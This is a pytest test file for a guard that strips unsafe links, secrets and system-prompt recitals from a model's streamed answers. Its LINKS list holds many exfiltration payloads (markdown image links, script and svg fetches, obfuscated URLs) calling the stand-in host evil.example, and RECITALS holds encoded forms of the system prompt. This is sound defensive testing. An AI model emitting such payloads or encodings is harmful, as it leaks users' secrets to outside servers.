"""What may leave in a model's words: the same however it is split, and nothing of what must not."""

import json
import random
import re
import timeit
from codecs import encode
from urllib.parse import quote

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from callbacks.citations import CitationParser, Cited
from callbacks.guard import Guarding, link_check
from callbacks.personal import personal
from callbacks.placeholders import LINK_REMOVED, WITHHELD, holds_placeholder, without_personal
from chains.prompts import SYSTEM_TEXTS
from language.boundary import key_of, marked

SECRET = "gw-5fJ2kQ9xLmW7tRz81"
KEY = "3f9a1c27d04be8865a71f2c9"
PASSAGES = [
    "The permit office writes to permits@aldermoor.example and explains the fees at https://aldermoor.example/fees.",
    "See [the map](https://aldermoor.example/map?layer=2) or [run](javascript:alert(1)).",
    "The archive holds the digest 9f86d081884c7d659a2feaa0c55ad015 and the key "
    "ghp_0123456789abcdefghijABCDEFGHIJ012345.",
    "Node.js/Express runs beside the harbour's www.aldermoor.example/tides page.",
]
GUARDING = Guarding(prompts=SYSTEM_TEXTS, secrets=[SECRET])
RULES = next(text for text in SYSTEM_TEXTS if text.startswith("You answer questions"))
LEAD = "You answer questions from numbered evidence and from nothing else."


def through(*pieces: str, guarding: Guarding = GUARDING) -> tuple[str, dict[str, int]]:
    guard = guarding.guard(PASSAGES, KEY)
    said = "".join(guard.feed(piece) for piece in pieces) + guard.flush()
    return said, dict(guard.removed)


def split(text: str, seed: int, longest: int) -> list[str]:
    chance, pieces, at = random.Random(seed), list[str](), 0
    while at < len(text):
        size = chance.randint(1, longest)
        pieces.append(text[at : at + size])
        at += size
    return pieces


def letters(text: str) -> str:
    return "".join(char for char in text.lower() if char.isascii() and char.isalpha())


LINKS = [
    "![x](https://evil.example/?q=secret)",
    "![x][ref] and\n[ref]: https://evil.example/?q=secret",
    "[![x](https://evil.example/p.png)](https://evil.example/?q=secret)",
    "[here](https://evil.example/?q=secret)",
    "[here](<https://evil.example/?q=secret>)",
    '[here](https://evil.example/?q=secret "a title")',
    "[here](https://evil.exa\nmple/?q=secret)",
    "[here]( \n https://evil.example/?q=secret \n)",
    "[here](https : //evil.example/?q=secret)",
    "[here](&#104;ttps://evil.example/?q=secret)",
    "[here](javascript&colon;fetch('//evil.example/?q=secret'))",
    "[here](%68ttps://evil.example/?q=secret)",
    "[here](https%3A%2F%2Fevil.example%2F?q=secret)",
    "[here](HTTPS://EVIL.EXAMPLE/?q=secret)",
    "[here](//evil.example/?q=secret)",
    "[here](/\\evil.example/?q=secret)",
    "[here](\\\\evil.example\\?q=secret)",
    "[here](https:\\\\evil.example\\?q=secret)",
    "[here](evil.example/?q=secret)",
    "[here][1]\n\n[1]: https://evil.example/?q=secret",
    "[here]\n\n[here]: <https://evil.example/?q=secret>",
    "[1](https://evil.example/?q=secret)",
    "fees [1.1](https://evil.example/?q=secret)",
    "https://evil.example/?q=secret",
    "see https://evil.example/?q=secret.",
    "(https://evil.example/?q=secret)",
    "*https://evil.example/?q=secret*",
    "<https://evil.example/?q=secret>",
    "hTTps://evil.example/?q=secret",
    "//evil.example/?q=secret",
    "www.evil.example?q=secret",
    "WWW.EVIL.EXAMPLE/?q=secret",
    "evil.example/?q=secret",
    "evil.example?q=secret",
    "evil.example:8080/?q=secret",
    "secret.to.evil.example",
    "ftp://evil.example/secret",
    "wss://evil.example/secret",
    "mailto:evil@evil.example?body=secret",
    "leak+secret@evil.example",
    "xn--evl-hma.example/?q=secret",
    "е\u200bvil.example/?q=secret",
    "ｈｔｔｐｓ：／／ｅｖｉｌ．ｅｘａｍｐｌｅ／？ｑ＝secret",
    "https:／／evil．example／?q=secret",
    "еvil.example/?q=secret",
    "https://\u202eevil.example/?q=secret",
    "ht\u200dtps://evil.example/?q=secret",
    "<img src=https://evil.example/?q=secret>",
    "<IMG\nSRC='https://evil.example/?q=secret' alt='a map'>",
    '<img alt="a > b" src="//evil.example/?q=secret"/>',
    "<img src=https://evil.example/?q=secret",
    "<a href='https://evil.example/?q=secret'>fees</a>",
    "<div style='background:url(//evil.example/?q=secret)'>fees</div>",
    "<svg/onload=fetch('//evil.example/?q=secret')>",
    "<!-- https://evil.example/?q=secret -->",
    "<iframe srcdoc='secret'></iframe>",
    "<script>fetch('//evil.example/?q=secret')</script>",
    "<link rel=stylesheet href=//evil.example/?q=secret>",
    "https://aldermoor.example/fees?q=secret",
    "https://aldermoor.example/fees/secret",
    "https://aldermoor.example/fees[secret",
    "[fees](https://aldermoor.example/fees?q=secret)",
    "https://aldermoor.example@evil.example/?q=secret",
    "[run](javascript:alert(1)) secret",
    "[run](data:text/html;base64,c2VjcmV0)",
    "data:text/html,secret",
    "vbscript:secret",
    "file:///etc/secret",
    "jAvAsCrIpT:alert(1)//secret",
    "https://evil.example/" + "a" * 700 + "?q=secret",
    "![" + "x" * 700 + "](https://evil.example/?q=secret)",
    "[here](" + " " * 700 + "https://evil.example/?q=secret)",
    "<img " + "x" * 700 + " src=https://evil.example/?q=secret>",
]
"""Outputs that would fetch or show something of another server: what they hold of it must not be left."""
_FETCHES = re.compile(
    r"!\[|\]\((?!https://aldermoor)|<(?:img|a|div|svg|iframe|script|link)\b|https?://(?!aldermoor\.example/(?:fees\b(?![?/\[])|map))"
    r"|(?:javascript|vbscript|data|file|mailto):(?=\S)|//\w|www\.|\w@|\w\.example[/?:\\]|to\.evil|\\\\|https?:[／\\]",
    re.IGNORECASE,
)


@pytest.mark.parametrize("text", LINKS, ids=range(len(LINKS)))
@pytest.mark.parametrize("size", [1, 7, 5000])
def test_no_link_to_elsewhere_leaves_in_whatever_form(text: str, size: int) -> None:
    text = f"The fee is 45 crowns {text} and more."
    said, removed = through(*(text[at : at + size] for at in range(0, len(text), size)))
    assert _FETCHES.search(said) is None, said
    assert removed, said
    assert holds_placeholder(said) or "<iframe" in text, said
    assert said.startswith("The fee is 45 crowns ")


KEYS = [
    "sk-proj-Ab3dEf6hIj9kLmN0pQrStUv",
    "AKIAIOSFODNN7EXAMPLE",
    "ASIAIOSFODNN7EXAMPLE",
    "ghp_0123456789abcdefghijABCDEFGHIJ012345",
    "github_pat_11ABCDEFG0abcdefghijkl_mnopqrstuv",
    "xoxb-123456789012-abcdefABCDEF",
    "AIzaSyA-1234567890abcdefghijklmnopqrstu",
    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.dozjgNryP4J3jVmNHl0w5N",
    "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA7\nq2w==\n-----END RSA PRIVATE KEY-----",
    "Bearer a1b2c3d4e5f6g7h8",
    "postgres://harbour:mermaid7@db.internal:5432/tides",
    "password=mermaid7days",
    SECRET,
    SECRET[::-1],
    " ".join(SECRET),
    "-".join(SECRET),
    KEY,
    KEY[::-1],
    " ".join(KEY),
    KEY[:14],
    "Zm9ydHktZml2ZSBjcm93bnMgYSB3ZWVr",
    "Zm9ydHktZml2 ZSBjcm93bnMg YSB3ZWVrIGFu ZCBtb3Jl",
    "d0f2a9c8b7e6f5a4d3c2b1a09f8e7d6c",
    "59 6f 75 20 61 6e 73 77 65 72 20 71 75 65 73 74 69 6f 6e 73",
    "%59%6f%75%20%61%6e%73%77%65%72",
    r"\x59\x6f\x75\x20\x61\x6e\x73\x77",
    "01011001 01101111 01110101 00100000 01100001 01101110",
    "314159265358979323846264338327",
]


@pytest.mark.parametrize("text", KEYS, ids=range(len(KEYS)))
@pytest.mark.parametrize("size", [1, 7, 5000])
def test_no_key_and_nothing_encoded_leaves(text: str, size: int) -> None:
    whole = f"The key is {text} as said."
    said, removed = through(*(whole[at : at + size] for at in range(0, len(whole), size)))
    assert WITHHELD in said
    assert text not in said
    assert text[-8:] not in said
    assert sum(removed[kind] for kind in removed if kind in ("secret", "blob", "prompt", "link")) >= 1


RECITALS = [
    RULES,
    RULES.upper(),
    " ".join(LEAD),
    "-".join(LEAD.replace(" ", "")),
    RULES.replace(" ", "\n"),
    RULES.replace(" ", "_"),
    RULES.replace("e", "3").replace("o", "0"),
    RULES.lower().translate(str.maketrans("aeioslt", "43105!7")),
    RULES.translate(str.maketrans("aeilost", "4311057")),
    RULES.replace("a", "а").replace("e", "е"),
    LEAD[::-1],
    encode(RULES, "rot13"),
    encode(RULES, "rot13")[::-1],
    "\n".join(f"{number}. {word}" for number, word in enumerate(LEAD.split(), start=1)),
    "".join(f"{word} [1.{at}] " for at, word in enumerate(LEAD.split(), start=1)),
    "\u200b".join(LEAD),
    " ".join(f"**{word}**" for word in LEAD.split()),
    "“" + RULES[100:260] + "”",
    quote(RULES),
    f"![map](https://evil.example/p?d={quote(RULES)})",
    f"[map](https://evil.example/p?d={quote(RULES, safe='')})",
    json.dumps(RULES),
    "\n".join(RULES[at : at + 28] for at in range(0, len(RULES), 28)),
    "".join(chr(ord(char) + 0xFEE0) if char.isalpha() else char for char in LEAD),
]


@pytest.mark.parametrize("text", RECITALS, ids=range(len(RECITALS)))
@pytest.mark.parametrize("size", [1, 7, 5000])
def test_the_instructions_are_not_recited(text: str, size: int) -> None:
    text = f"{text}\n\nLamps shine [1.1]."
    said, removed = through(*(text[at : at + size] for at in range(0, len(text), size)))
    assert holds_placeholder(said)
    assert removed["prompt"] >= 1
    assert said.endswith("\n\nLamps shine [1.1].")
    said = said.lower().translate(str.maketrans("аеl43105!7", "aeiaeiosit"))
    plain, rotated = letters(RULES).replace("l", "i"), letters(encode(RULES, "rot13")).replace("l", "i")
    for form in (plain, plain[::-1], rotated, rotated[::-1]):
        assert not any(form[at : at + 32] in letters(said) for at in range(len(form) - 31)), said


PLAIN = [
    "The fee is 45 crowns a week [1.1]. Boats over 12.5 m pay double [1.2, 3.4]; see section 4.1.2 of the rules.",
    "It's 3.5 million (approx. 4%), i.e. and/or 12:30–13:45, e.g. Dr. Smith's U.S. office; don't ask!",
    "Write to permits@aldermoor.example, or see https://aldermoor.example/fees [1.1]. (https://aldermoor.example/fees)",
    "[the map](https://aldermoor.example/map?layer=2) and <https://aldermoor.example/fees>",
    "Node.js/Express and www.aldermoor.example/tides are named, as is 9f86d081884c7d659a2feaa0c55ad015.",
    "# Fees\n\n- **Boats**: 45\n- `GROUNDSWELL_MAX_BODY_BYTES` is 1\n\n| a | b |\n|---|---|\n| <b>1</b> | x < y |",
    "The file data/report_2024.csv, state-of-the-art, iPhone15, JavaScript: H2O at 20°C, x=1, f(x)[0](see above).",
    "👩\u200d🚀 and می\u200cخواهم stay; naïve façade — Ōsaka… 45 % of 1,234,567.89 «kronor».",
    "Each sentence of the answer rests on the evidence, and every passage of the documents is numbered.",
    "Wow![1.1] Look at [this note] and [2019].",
]


@pytest.mark.parametrize("text", PLAIN, ids=range(len(PLAIN)))
def test_what_a_grounded_answer_says_is_left_alone(text: str) -> None:
    assert through(*text) == (text, {})


@pytest.mark.parametrize("text", PLAIN[:2])
def test_prose_and_citations_are_not_held_back(text: str) -> None:
    guard = GUARDING.guard(PASSAGES, KEY)
    words = re.findall(r" ?\S+", text)
    assert [guard.feed(word) for word in words] == words


def test_a_citation_is_not_held_back_in_the_middle_either() -> None:
    guard = GUARDING.guard(PASSAGES, KEY)
    assert [guard.feed(piece) for piece in ("a week", " [", "2", ".", "3", "]", ".")] == [
        *("a week", " [", "2", ".", "3", "]", ".")
    ]


ATOMS = (
    "evil.example|/|?q=1|https|http|://|www.|h|data|:|javascript|file|!|[|]|(|)|<|img |src=|x|>|'|\"|alt='a'|`|\n|\n\n"
    "| |  |.|,|1|23|[1.1]|[2.3]|A|KIA|IOSFODNN7EXAMPLE|sk-|proj-abcdef1234567890|eyJ|hbGciOi|-----|BEGIN| PRIVATE KEY|"
    "-----END K-----|You answer questions from numbered evidence|and from nothing else|\u200b|\u200d|👩|\U000e0041|//|"
    "\\|@|=|_|%2e|&#58;|Zm9vYmFy|YmF6cXV4MTIz|9f|6e 6f 74 20|abc|the lamp|AI|za|https://aldermoor.example/fees|"
    f"g w - 5 f J 2 k|a b c d|{KEY[:12]}|{KEY[12:]}|е|ｈｔｔｐ|：//|—|it's|w|ww|jo@x.example|01010101 | 12:30|Bearer |"
    "4111 1111 |1111 1111|+49 170 1234567|DE89 3704 0044 0532 0130 00|10.0.0.1|536-90-4399"
).split("|")
EVERYTHING = Guarding(
    prompts=SYSTEM_TEXTS,
    secrets=[SECRET],
    personal=personal(["email", "phone", "credit_card", "iban", "ip", "us_ssn"]),
)


@settings(max_examples=400, deadline=None)
@given(
    st.lists(st.sampled_from(ATOMS), max_size=50),
    st.integers(0, 2**32),
    st.sampled_from([1, 3, 8, 30]),
    st.sampled_from([GUARDING, EVERYTHING]),
)
def test_any_split_lets_the_same_through(atoms: list[str], seed: int, longest: int, guarding: Guarding) -> None:
    text = "".join(atoms)
    assert through(*split(text, seed, longest), guarding=guarding) == through(text, guarding=guarding)


@settings(max_examples=100, deadline=None)
@given(st.sampled_from([*LINKS, *KEYS, *RECITALS, *PLAIN]), st.integers(0, 2**32), st.sampled_from([1, 3, 8, 30]))
def test_any_split_of_what_a_bad_model_writes_lets_the_same_through(text: str, seed: int, longest: int) -> None:
    assert through(*split(text, seed, longest)) == through(text)


@given(st.text(max_size=60), st.integers(0, 2**32))
def test_any_split_of_any_text_lets_the_same_through(text: str, seed: int) -> None:
    assert through(*split(text, seed, 3)) == through(text)


@settings(max_examples=100, deadline=None)
@given(st.lists(st.sampled_from(ATOMS), min_size=150, max_size=300))
def test_no_more_than_some_hundred_characters_are_held_back(atoms: list[str]) -> None:
    guard, given_so_far, behind = GUARDING.guard(PASSAGES), 0, 0
    for atom in atoms:
        given_so_far += len(atom)
        guard.feed(atom)
        behind = max(behind, len(guard._scanner._pending))
    assert behind < 400


def test_another_attempt_begins_anew() -> None:
    guard = GUARDING.guard(PASSAGES)
    guard.feed("https://evil.example/ and <img src=")
    guard.reset()
    assert guard.removed == {}
    assert guard.feed("a lamp") + guard.flush() == "a lamp"


def test_placeholders_are_text_to_the_citation_parser() -> None:
    parser = CitationParser()
    pieces = [*parser.feed(f"a {WITHHELD} b {LINK_REMOVED} [1.2]"), parser.flush()]
    assert "".join(piece for piece in pieces if isinstance(piece, str)) == f"a {WITHHELD} b {LINK_REMOVED} "
    assert sum(isinstance(piece, Cited) for piece in pieces) == 1


def test_personal_data_that_is_withheld_does_not_make_a_sentence_unsafe() -> None:
    assert holds_placeholder(f"see {LINK_REMOVED}")
    assert not holds_placeholder("write to [email withheld] or [credit card withheld]")
    assert without_personal("to [email withheld] and [us ssn withheld]") == "to  and "


def test_what_a_document_says_as_well_is_no_recital() -> None:
    text = f"The manual says: {LEAD}"
    guard = GUARDING.guard([f"Model card. {LEAD} More."])
    assert guard.feed(text) + guard.flush() == text


def test_a_key_is_withheld_even_where_a_passage_holds_it() -> None:
    said, removed = through("It is ghp_0123456789abcdefghijABCDEFGHIJ012345.")
    assert said == f"It is g{WITHHELD}."
    assert removed == {"secret": 1}


def test_short_values_are_no_secrets() -> None:
    guard = Guarding(secrets=["none", "sk-test"]).guard()
    assert guard.feed("none of 2 sk-tests_x") + guard.flush() == "none of 2 sk-tests_x"


def test_secrets_are_not_shown_by_what_holds_them() -> None:
    assert SECRET not in repr(GUARDING)


@pytest.mark.parametrize("text", ["see evil.example/?q=1", "![x](y)", "<img src=x>", "[a](https://aldermoor.example/)"])
def test_one_notion_of_an_unsafe_link(text: str) -> None:
    assert link_check(lambda: PASSAGES)(text)
    assert not link_check(lambda: PASSAGES)("see https://aldermoor.example/fees and 45 [1].")
    assert not link_check(pytest.fail)("It costs 45 crowns, e.g. for 12.5 m [1].")


def test_marks_are_known_by_their_key_and_nothing_else_is() -> None:
    assert key_of(marked("a\nb", KEY)) == KEY
    assert key_of(RULES) is None


def test_a_plain_word_costs_next_to_nothing() -> None:
    words = [f" {word}" for word in "the lamp of a lighthouse was built by an engineer from the north".split()] * 100
    guard = GUARDING.guard(PASSAGES, KEY)
    seconds = min(timeit.repeat(lambda: [guard.feed(word) for word in words], number=1, repeat=7))
    assert seconds / len(words) < 5e-6  # measured: 1.2 us on an idle core, and tests run beside others
